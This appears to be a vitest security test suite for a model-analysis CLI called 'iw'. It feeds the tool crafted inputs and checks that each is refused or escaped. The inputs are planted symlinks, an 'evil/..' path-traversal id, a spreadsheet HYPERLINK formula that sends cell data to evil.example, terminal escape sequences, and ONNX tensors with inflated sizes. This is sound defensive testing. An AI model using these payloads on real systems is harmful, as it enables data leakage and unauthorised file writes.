import { cpSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, realpathSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { decodeModel, encodeModel, type OnnxModel } from '../../src/model/onnx/onnxProto.js';
import { writeReportJson } from '../../src/report/index.js';
import { runIw } from '../helpers/runIw.js';
import { moveWeightsToExternalData, tinyGpt2 } from '../model/modelTestKit.js';
import { syntheticReport } from '../report/helpers/syntheticReport.js';

/**
 * Files from strangers and folders shared with others (issue 27, docs/security.md): each crafted input gets its
 * expected exit code and message, and nothing is written outside --out or through a symlink iw did not create.
 */
const folder = mkdtempSync(join(tmpdir(), 'iw-crafted-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** Two report.json files in their own run folders, with the given model ids. */
function reportsOf(name: string, ...modelIds: string[]): string[] {
  return modelIds.map((modelId, i) => {
    const path = join(folder, name, `run${i}`, 'report.json');
    writeReportJson(syntheticReport({ noiseSeed: i + 1, modelId }), path);
    return path;
  });
}

describe('symlinks planted in a shared output folder', () => {
  it('do not redirect iw compare\'s writes: the old predictable temp names of the next 400 PIDs lead nowhere', async () => {
    const paths = reportsOf('planted', 'models/a', 'models/b');
    const out = join(folder, 'planted', 'shared-out');
    mkdirSync(out);
    const victim = join(folder, 'planted', 'victim.txt');
    writeFileSync(victim, 'private\n');
    // What an attacker could plant before (temp files were named .<name>.<pid>.tmp), and the target name itself.
    for (let pid = process.pid; pid < process.pid + 400; pid++) symlinkSync(victim, join(out, `.compare.csv.${pid}.tmp`));
    symlinkSync(victim, join(out, 'compare.html'));
    const result = await runIw(['compare', ...paths, '--out', out]);
    expect(result.code).toBe(0);
    expect(readFileSync(victim, 'utf8')).toBe('private\n');
    for (const file of ['compare.csv', 'compare.html']) {
      expect(lstatSync(join(out, file)).isSymbolicLink(), file).toBe(false);
    }
    expect(readFileSync(join(out, 'compare.csv'), 'utf8')).toMatch(/^label,report,layer,/);
  });
});

describe('a report whose model.id is "evil/.."', () => {
  it('cannot make iw plot write above --out: its subfolder is a safe name', async () => {
    const paths = reportsOf('dotdot-plot', 'evil/..', 'models/good');
    const out = join(folder, 'dotdot-plot', 'out');
    const result = await runIw(['plot', ...paths, '--out', out]);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain(`${paths[0]}: wrote 4 files to ${join(out, 'report')}\n`);
    expect(result.stdout).toContain(`${paths[1]}: wrote 4 files to ${join(out, 'good')}\n`);
    expect(readdirSync(join(folder, 'dotdot-plot')).sort()).toEqual(['out', 'run0', 'run1']);
    expect(readdirSync(out).sort()).toEqual(['good', 'report']);
  });

  it('cannot make iw compare write above --out', async () => {
    const paths = reportsOf('dotdot-compare', 'evil/..', 'models/good');
    const out = join(folder, 'dotdot-compare', 'out');
    expect((await runIw(['compare', ...paths, '--out', out])).code).toBe(0);
    expect(readdirSync(join(folder, 'dotdot-compare')).sort()).toEqual(['out', 'run0', 'run1']);
    expect(readdirSync(out).sort()).toEqual(['compare.csv', 'compare.html', 'parameters.svg']);
  });

  it('iw plot refuses a subfolder of --out that is a planted symlink, exit 2, writing nothing through it', async () => {
    const paths = reportsOf('linked-plot', 'models/a', 'models/b');
    const out = join(folder, 'linked-plot', 'out');
    const elsewhere = join(folder, 'linked-plot', 'elsewhere');
    mkdirSync(out);
    mkdirSync(elsewhere);
    symlinkSync(elsewhere, join(out, 'a'));
    const result = await runIw(['plot', ...paths, '--out', out]);
    expect(result).toMatchObject({ code: 2, stderr: `iw: refusing to write into ${join(out, 'a')}: it is a symbolic link; remove it or choose another --out\n` });
    expect(readdirSync(elsewhere)).toEqual([]);
  });
});

/** ESC ] 0 ; … BEL retitles a terminal; BEL, DEL and a C1 CSI besides. */
const TERMINAL_TITLE = '\u001b]0;pwned\u0007';
// eslint-disable-next-line no-control-regex -- looking for control characters is the point
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

describe('a report whose model.id starts a spreadsheet formula', () => {
  it('gives iw compare a compare.csv whose label cell is text, not a live formula', async () => {
    const paths = reportsOf('formula', 'org/=HYPERLINK("evil.example"&A1,"click")', 'models/good');
    const out = join(folder, 'formula', 'out');
    expect((await runIw(['compare', ...paths, '--out', out])).code).toBe(0);
    const rows = readFileSync(join(out, 'compare.csv'), 'utf8').trimEnd().split('\n').slice(1);
    expect(rows[0]).toMatch(/^"'=HYPERLINK\(""evil\.example""&A1,""click""\)",/);
    expect(rows.every((row) => !/^[=+\-@\t\r]/.test(row))).toBe(true);
  });
});

describe('a report whose model.id holds control characters', () => {
  it('reaches neither the terminal (iw compare) nor the SVG and HTML (iw plot, iw compare) raw', async () => {
    const paths = reportsOf('control', `org/model${TERMINAL_TITLE}\u007f\u009b2J`, 'models/good');
    const compared = await runIw(['compare', ...paths, '--out', join(folder, 'control', 'compared')]);
    expect(compared.code).toBe(0);
    expect(compared.stdout).not.toMatch(CONTROL);
    expect(compared.stdout).toContain('model\\u001b]0;pwned\\u0007\\u007f\\u009b2J');
    const json = await runIw(['compare', ...paths, '--json']);
    expect(JSON.parse(json.stdout).reports[0].label).toBe(`model${TERMINAL_TITLE}\u007f\u009b2J`);
    const plotted = await runIw(['plot', paths[0]]);
    expect(plotted.code).toBe(0);
    const files = ['windows.svg', 'parameters.svg', 'fits.svg', 'report.html'].map((file) => join(folder, 'control', 'run0', file));
    files.push(...['parameters.svg', 'compare.html'].map((file) => join(folder, 'control', 'compared', file)));
    for (const file of files) {
      const text = readFileSync(file, 'utf8');
      expect(text, file).not.toMatch(CONTROL);
      expect(text, file).toContain('\\u001b]0;pwned\\u0007');
    }
  });
});

describe('a model whose tensor names hold control characters', () => {
  it('reaches iw layers\' table escaped', async () => {
    const model = join(folder, 'control-tensors');
    cpSync(tinyGpt2, model, { recursive: true });
    const onnx = decodeModel(readFileSync(join(model, 'onnx', 'model.onnx')));
    const tensor = '/transformer/ln_f/Add_1_output_0';
    const renamed = `/transformer/ln_f${TERMINAL_TITLE}`;
    for (const node of onnx.graph.node) {
      node.input = node.input.map((name) => (name === tensor ? renamed : name));
      node.output = node.output.map((name) => (name === tensor ? renamed : name));
    }
    writeFileSync(join(model, 'onnx', 'model.onnx'), encodeModel(onnx));
    const result = await runIw(['layers', '--model', model]);
    expect(result).toMatchObject({ code: 0, stderr: '' });
    expect(result.stdout).not.toMatch(CONTROL);
    expect(result.stdout).toMatch(/^2\s+final-norm\s+64\s+\/transformer\/ln_f\\u001b\]0;pwned\\u0007$/m);
  });
});

/** A copy of the tiny GPT-2 whose ONNX graph is edited by `edit` (and whose other files are copied). */
function editedModel(name: string, edit: (model: OnnxModel, folder: string) => void): string {
  const model = join(folder, name);
  cpSync(tinyGpt2, model, { recursive: true });
  const onnx = decodeModel(readFileSync(join(model, 'onnx', 'model.onnx')));
  edit(onnx, model);
  writeFileSync(join(model, 'onnx', 'model.onnx'), encodeModel(onnx));
  return model;
}

/** The tiny GPT-2 with every initializer moved to onnx/model.onnx_data, as large exports keep them. */
function withExternalData(onnx: OnnxModel, model: string): void {
  moveWeightsToExternalData(onnx, join(model, 'onnx'));
}

/** Exit 2, one line on stderr holding each culprit, no stack trace. */
function expectRefusal(result: { code: number; stderr: string }, ...culprits: string[]): void {
  expect(result.code).toBe(2);
  expect(result.stderr).toMatch(/^iw: [^\n]+\n$/);
  expect(result.stderr).not.toMatch(/internal error|\n\s+at /);
  for (const culprit of culprits) expect(result.stderr).toContain(culprit);
}

describe('an ONNX file whose tensors claim more than they hold', () => {
  const embedding = 'transformer.wte.weight';

  it('dims 4000 × 1000 with 4 bytes of float_data: exit 2 naming the file and the tensor, nothing allocated', async () => {
    const model = editedModel('huge-dims', (onnx) => {
      const tensor = onnx.graph.initializer.find((t) => t.name === embedding)!;
      Object.assign(tensor, { dims: [4000, 1000], raw_data: new Uint8Array(0), float_data: [1], data_type: 1 });
    });
    const file = join(model, 'onnx', 'model.onnx');
    const message = `iw: ${file}: tensor "${embedding}" claims dims 4000 × 1000 (4000000 values) but holds 1 in float_data; the file is damaged or was not made by an ONNX exporter\n`;
    expect(await runIw(['layers', '--model', model])).toMatchObject({ code: 2, stderr: message });
    expectRefusal(await runIw(['randomize', '--model', model, '--seed', '1', '--out', join(folder, 'huge-dims-twin'), '--quiet']), embedding, 'claims dims 4000 × 1000');
  });

  it('raw_data shorter than the dims (read in place, as an external-data reference to the file itself): exit 2', async () => {
    const model = editedModel('short-raw', (onnx) => {
      const tensor = onnx.graph.initializer.find((t) => t.name === embedding)!;
      tensor.dims = [100000, 100000];
    });
    expectRefusal(await runIw(['layers', '--model', model]), join(model, 'onnx', 'model.onnx'), embedding, 'claims dims 100000 × 100000 (40000000000 bytes) but its external data length is 1572864');
  });

  it('an external-data length of 1e11: exit 2 before anything is allocated', async () => {
    const model = editedModel('huge-length', (onnx, folder) => {
      withExternalData(onnx, folder);
      onnx.graph.initializer.find((t) => t.name === embedding)!.external_data[2].value = '100000000000';
    });
    expectRefusal(await runIw(['layers', '--model', model]), embedding, 'its external data length is 100000000000');
  });

  it('an external-data offset past the end of its file: exit 2', async () => {
    const model = editedModel('far-offset', (onnx, folder) => {
      withExternalData(onnx, folder);
      onnx.graph.initializer.find((t) => t.name === embedding)!.external_data[1].value = '99999999';
    });
    expectRefusal(await runIw(['layers', '--model', model]), embedding, 'of model.onnx_data, which holds');
  });
});

describe('external data that is a symlink', () => {
  it('is not read: the data file beside the model links to a file elsewhere, exit 2', async () => {
    const model = editedModel('linked-data', withExternalData);
    const elsewhere = join(folder, 'linked-data-private.bin');
    renameSync(join(model, 'onnx', 'model.onnx_data'), elsewhere);
    symlinkSync(elsewhere, join(model, 'onnx', 'model.onnx_data'));
    expectRefusal(await runIw(['layers', '--model', model]), join(model, 'onnx', 'model.onnx_data'), 'a symbolic link');
    expectRefusal(await runIw(['randomize', '--model', model, '--seed', '1', '--out', join(folder, 'linked-data-twin'), '--quiet']), 'a symbolic link');
  });

  it('is not read through a linked folder that leads outside the model folder, exit 2', async () => {
    const model = editedModel('linked-folder', (onnx, folder) => {
      withExternalData(onnx, folder);
      for (const tensor of onnx.graph.initializer) tensor.external_data[0].value = 'weights/model.onnx_data';
    });
    const elsewhere = join(folder, 'linked-folder-private');
    mkdirSync(elsewhere);
    renameSync(join(model, 'onnx', 'model.onnx_data'), join(elsewhere, 'model.onnx_data'));
    symlinkSync(elsewhere, join(model, 'onnx', 'weights'));
    expectRefusal(await runIw(['layers', '--model', model]), 'lies outside the model\'s folder once its linked folders are followed');
  });
});

describe('a model folder holding a symlink to a private file', () => {
  it('is refused by iw randomize: the linked file is not copied into the twin, exit 2', async () => {
    const model = join(folder, 'linked-tokens');
    cpSync(tinyGpt2, model, { recursive: true });
    const secret = join(folder, 'linked-tokens-secret.json');
    writeFileSync(secret, '{"private": true}\n');
    symlinkSync(secret, join(model, 'special_tokens_map.json'));
    const out = join(folder, 'linked-tokens-twin');
    const result = await runIw(['randomize', '--model', model, '--seed', '1', '--out', out, '--quiet']);
    expect(result).toMatchObject({ code: 2, stderr: `iw: ${join(model, 'special_tokens_map.json')} is a symbolic link to ${realpathSync(secret)}: iw reads only regular files inside a model's folder (a link could point at a private file); copy the file in place of the link (an untrained twin is made only of the model folder's own files)\n` });
    expect(existsSync(out)).toBe(false);
    expect(readdirSync(folder).filter((name) => name.startsWith('.linked-tokens-twin'))).toEqual([]);
  });
});

describe('paths that reports and twin configs record', () => {
  it('are the model as the user named it (relative stays relative), not absolute paths; check and compare still read them', async () => {
    const given = relative(process.cwd(), tinyGpt2);
    const cache = join(folder, 'given-cache');
    const small = ['--sequences', '4', '--words', '24', '--max-lag', '8', '--quiet', '--model', given];
    const trained = join(folder, 'given-trained');
    const untrained = join(folder, 'given-untrained');
    expect((await runIw(['estimate', ...small, '--out', trained])).code).toBe(0);
    expect((await runIw(['estimate', ...small, '--untrained', '--cache-dir', cache, '--out', untrained])).code).toBe(0);
    for (const run of [trained, untrained]) {
      expect(JSON.parse(readFileSync(join(run, 'report.json'), 'utf8')).model.path).toBe(join(given, 'onnx', 'model.onnx'));
    }
    const [twin] = readdirSync(join(cache, 'iw-untrained'));
    expect(JSON.parse(readFileSync(join(cache, 'iw-untrained', twin, 'config.json'), 'utf8')).iw_untrained.from).toBe(given);
    expect((await runIw(['compare', join(trained, 'report.json'), join(untrained, 'report.json')])).code).toBe(0);
    expect((await runIw(['check', join(trained, 'report.json'), '--baseline', join(trained, 'report.json')])).code).toBe(0);
  });
});
